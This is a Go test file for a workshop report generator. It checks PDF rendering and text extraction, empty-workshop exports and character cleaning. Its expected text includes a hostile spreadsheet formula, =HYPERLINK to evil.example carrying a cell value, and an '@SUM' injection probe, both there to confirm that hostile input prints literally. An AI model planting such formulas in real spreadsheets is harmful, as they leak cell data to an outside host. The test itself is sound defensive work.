package report

import (
	"bytes"
	"fmt"
	"image"
	"image/png"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"
)

// requireTool returns the path of a command-line tool, or skips the test
// without it, failing instead when WAYMARK_TEST_REQUIRE is "all" or names
// the tool. scripts/test.sh installs poppler-utils, which has pdftoppm and
// pdftotext.
func requireTool(t *testing.T, name string) string {
	t.Helper()
	path, err := exec.LookPath(name)
	if err == nil {
		return path
	}
	for _, v := range strings.Split(os.Getenv("WAYMARK_TEST_REQUIRE"), ",") {
		if v = strings.TrimSpace(v); v == "all" || v == name || v == "poppler" {
			t.Fatalf("%s is required (WAYMARK_TEST_REQUIRE=%s) but not installed; install poppler-utils", name, os.Getenv("WAYMARK_TEST_REQUIRE"))
		}
	}
	t.Skipf("%s is not installed (Debian package poppler-utils)", name)
	return ""
}

func writePDF(t *testing.T, r *Report) string {
	t.Helper()
	var buf bytes.Buffer
	if err := PDF(&buf, r); err != nil {
		t.Fatal(err)
	}
	b := buf.Bytes()
	if !bytes.HasPrefix(b, []byte("%PDF-")) || !bytes.Contains(b[max(0, len(b)-64):], []byte("%%EOF")) {
		t.Fatalf("not a PDF: %.20q … %q", b, b[max(0, len(b)-20):])
	}
	path := filepath.Join(t.TempDir(), "report-"+r.Lang+".pdf")
	if err := os.WriteFile(path, b, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// pageStats describes a rendered page: the share of pixels that are not
// white and the share that are coloured (not grey).
type pageStats struct {
	ink, colour float64
}

func renderPages(t *testing.T, pdftoppm, pdf string) []pageStats {
	t.Helper()
	dir := t.TempDir()
	out, err := exec.Command(pdftoppm, "-r", "30", "-png", pdf, filepath.Join(dir, "page")).CombinedOutput()
	if err != nil {
		t.Fatalf("pdftoppm: %v: %s", err, out)
	}
	files, _ := filepath.Glob(filepath.Join(dir, "page-*.png"))
	slices.Sort(files)
	var stats []pageStats
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		img, err := png.Decode(bytes.NewReader(data))
		if err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		stats = append(stats, measurePage(img))
	}
	return stats
}

func measurePage(img image.Image) pageStats {
	b := img.Bounds()
	var ink, colour, n int
	for y := b.Min.Y; y < b.Max.Y; y++ {
		for x := b.Min.X; x < b.Max.X; x++ {
			r, g, bl, _ := img.At(x, y).RGBA()
			r, g, bl = r>>8, g>>8, bl>>8
			n++
			if r < 245 || g < 245 || bl < 245 {
				ink++
			}
			if max(r, g, bl)-min(r, g, bl) > 40 {
				colour++
			}
		}
	}
	return pageStats{float64(ink) / float64(n), float64(colour) / float64(n)}
}

// Ensures the PDF renders (pdftoppm) to pages that all carry content,
// with charts in colour, and that its text (pdftotext) is the report's
// language with å, ä and ö intact, hostile texts printed as they are and
// no participant id or hidden idea.
func TestPDF(t *testing.T) {
	pdftoppm := requireTool(t, "pdftoppm")
	pdftotext := requireTool(t, "pdftotext")
	want := map[string][]string{
		"sv": {"Resultatrapport", "Framtidsverkstad i Östra Göinge – vår och höst", "Östra Göinge kommun", "Så läser du rapporten",
			"Deltagande per grupp", "Förtroendevalda", "Högst prioritet", "Åldrande befolkning behöver vård i hemmet",
			"Ny lag från 2027 – måste förberedas", "Påverkan och säkerhet", "Förbered scenarier", "Trendradar", "Spänningsfält",
			"Nationell styrning", "Lokalt självstyre", "Var vi vill vara", "Där grupperna är mest oense", "Konsekvenser och idéer",
			"öka samverkan med regionen kring äldreomsorg", "Resultat av prickröstningen", "Värderingar och förtroende", "Sida 2 av "},
		"en": {"Results report", "How to read this report", "Participation by group", "Elected members", "Top priorities",
			"An ageing population needs care at home", "Impact and certainty", "Act now", "Prepare scenarios", "Trend radar",
			"Fields of tension", "Where groups disagree most", "Consequences and ideas", "Dot-vote results", "Page 2 of ",
			`=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "@SUM(1+1)"},
	}
	for _, lang := range []string{"sv", "en"} {
		t.Run(lang, func(t *testing.T) {
			r, _ := fixture(t, fixtureOptions{Lang: lang, Trends: 30, Participants: 25, Ideas: len(hostile), Hostile: true})
			path := writePDF(t, r)
			pages := renderPages(t, pdftoppm, path)
			if len(pages) < 9 {
				t.Fatalf("%d pages", len(pages))
			}
			coloured, chart := 0, false
			for i, s := range pages {
				if s.ink < 0.005 {
					t.Errorf("page %d is blank (%.2f%% ink)", i+1, 100*s.ink)
				}
				if s.colour > 0.004 {
					coloured++
				}
				chart = chart || s.colour > 0.03 // the matrix's quadrants
			}
			if pages[0].ink < 0.01 || pages[0].ink > 0.5 {
				t.Errorf("the cover has %.1f%% ink", 100*pages[0].ink)
			}
			if coloured < 4 || !chart { // cover, bars, matrix, radar
				t.Errorf("%d pages with colour (want 4 or more), a page with a coloured chart: %v", coloured, chart)
			}
			out, err := exec.Command(pdftotext, "-enc", "UTF-8", path, "-").CombinedOutput()
			if err != nil {
				t.Fatalf("pdftotext: %v: %s", err, out)
			}
			text := strings.Join(strings.Fields(string(out)), " ")
			for _, s := range want[lang] {
				if !strings.Contains(text, strings.Join(strings.Fields(s), " ")) {
					t.Errorf("the text lacks %q", s)
				}
			}
			for _, bad := range []string{"secret-participant", "HIDDEN-IDEA", "{nb}", "report."} {
				if strings.Contains(text, bad) {
					t.Errorf("the text holds %q", bad)
				}
			}
			if lang == "sv" && !strings.ContainsAny(text, "åäöÅÄÖ") {
				t.Error("no å, ä or ö")
			}
		})
	}
}

// Ensures a workshop without answers, ideas, fields of tension or
// library version still gives every format, without error.
func TestEmptyWorkshop(t *testing.T) {
	for _, n := range []int{0, 1} {
		t.Run(fmt.Sprint(n, " participants"), func(t *testing.T) {
			src := fixtureSource(fixtureOptions{Trends: 1, Participants: n})
			src.Version = nil
			src.Workshop.Tensions = nil
			src.Input.Everyone.Tensions = nil
			r, err := Build(src)
			if err != nil {
				t.Fatal(err)
			}
			var buf bytes.Buffer
			for name, write := range map[string]func(*bytes.Buffer, *Report) error{
				"pdf":  func(b *bytes.Buffer, r *Report) error { return PDF(b, r) },
				"xlsx": func(b *bytes.Buffer, r *Report) error { return XLSX(b, r) },
				"csv":  func(b *bytes.Buffer, r *Report) error { return AnswersCSV(b, r) },
				"json": func(b *bytes.Buffer, r *Report) error { return AggregatesJSON(b, r) },
			} {
				buf.Reset()
				if err := write(&buf, r); err != nil || buf.Len() == 0 {
					t.Errorf("%s: %d bytes, %v", name, buf.Len(), err)
				}
			}
		})
	}
}

// Ensures text the font cannot print (emoji, control characters) is
// replaced, never passed on to break the PDF.
func TestClean(t *testing.T) {
	for in, want := range map[string]string{
		"Åäö":       "Åäö",
		"a🚀b":       "a\uFFFDb",
		"a\x00b\tc": "a b c",
		"a\nb":      "a b",
	} {
		if got := clean(in, false); got != want {
			t.Errorf("clean(%q) = %q, want %q", in, got, want)
		}
	}
	if got := clean("a\nb", true); got != "a\nb" {
		t.Errorf("clean keeping lines = %q", got)
	}
}
